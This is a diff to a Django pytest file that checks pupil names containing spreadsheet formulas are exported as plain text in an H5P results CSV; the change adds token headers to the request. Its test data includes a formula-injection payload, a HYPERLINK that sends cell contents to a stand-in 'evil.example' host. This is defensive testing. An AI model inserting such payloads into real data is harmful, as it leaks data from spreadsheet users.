@@ -8,7 +8,7 @@ import pytest
 from django.urls import reverse
 
 from tests.factories import PupilFactory
-from tests.h5p.statements import statement
+from tests.h5p.statements import statement, token_headers
 
 HOSTILE_NAMES = ['=HYPERLINK("https://evil.example/?x="&A1,"Klik")', "+1", "@SUM(A1)", "-2+3"]
 
@@ -26,6 +26,7 @@ def test_a_formula_for_a_name_is_written_as_text(client, teacher, school_class, 
         reverse("h5p:xapi", args=[content.pk]),
         json.dumps(statement(content, raw=3, maximum=4)),
         content_type="application/json",
+        headers=token_headers(pupil, content),
     )
     client.force_login(teacher)
     response = client.get(reverse("h5p:results_csv", args=[content.pk, school_class.pk]))
